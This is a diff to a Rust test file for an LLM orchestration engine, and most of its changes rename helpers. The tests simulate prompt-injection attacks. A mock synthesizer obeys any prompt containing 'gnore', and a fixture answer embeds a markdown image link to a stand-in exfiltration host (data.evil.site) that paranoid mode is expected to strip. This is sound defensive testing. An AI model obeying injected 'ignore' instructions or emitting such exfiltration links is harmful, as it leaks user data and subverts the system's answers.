@@ -6,7 +6,7 @@ use parallel_llm_engine::text::injection::Sign;
 use parallel_llm_engine::{Code, PicoUsd, SeatNumber};
 
 use crate::scenario::{Scenario, scenario};
-use crate::script::{Reply, after, fails, failure, form, label_of, prompt, says};
+use crate::script::{Reply, after, fails, failure, label_of, prompt, says, synthesis_reply};
 
 const HOW_MANY: &str = "How many legs has a spider?";
 
@@ -14,7 +14,7 @@ const HOW_MANY: &str = "How many legs has a spider?";
 pub(crate) fn gullible(ms: u64, obeyed: &'static str, honest: &'static str) -> Reply {
     let compose = move |call: &_| {
         let text = if prompt(call).contains("gnore") { obeyed } else { honest };
-        form(call, &format!(r#"{{"base": "{}"}}"#, label_of(call, "legs")), text)
+        synthesis_reply(call, &format!(r#"{{"base": "{}"}}"#, label_of(call, "legs")), text)
     };
     after(ms).compose(compose).end()
 }
@@ -33,7 +33,7 @@ fn spiders(replies: impl IntoIterator<Item = Reply>) -> Scenario {
 #[tokio::test(start_paused = true)]
 async fn an_answer_that_manipulates_the_synthesizer_does_not_win() {
     let result = spiders([gullible(50, "6", "8")]).run().await;
-    insta::assert_snapshot!(result.story(), @"
+    insta::assert_snapshot!(result.transcript(), @"
     0 started | 0 sent 1 | 0 sent 2 | 0 sent 3
     10 answered 1 `A spider has 8 legs.`
     20 answered 2 `It has 8 legs.`
@@ -215,7 +215,7 @@ async fn texts_written_before_a_crash_are_not_paid_again() {
     };
     let whole = scenario().run().await;
     let kept = whole.commits.iter().position(|commit| {
-        commit.iter().any(|recorded| crate::story::short(&recorded.event) == "answered step 3")
+        commit.iter().any(|recorded| crate::transcript::short(&recorded.event) == "answered step 3")
     });
     let result = scenario().after(&whole.commits[..=kept.expect("it was committed")]).run().await;
     assert!(result.asked.is_empty(), "nobody is asked again: {:?}", result.asked);
@@ -260,7 +260,9 @@ async fn an_unknown_link_is_reported_and_removed_in_paranoid_mode() {
     let linking = || {
         let text = "The moon. ![p](https://data.evil.site/p?q=spider) See https://tides.site/a.";
         after(10)
-            .compose(move |call| form(call, &format!(r#"{{"base": "{}"}}"#, label_of(call, "moon")), text))
+            .compose(move |call| {
+                synthesis_reply(call, &format!(r#"{{"base": "{}"}}"#, label_of(call, "moon")), text)
+            })
             .end()
     };
     let tides = |strategy: &str| {
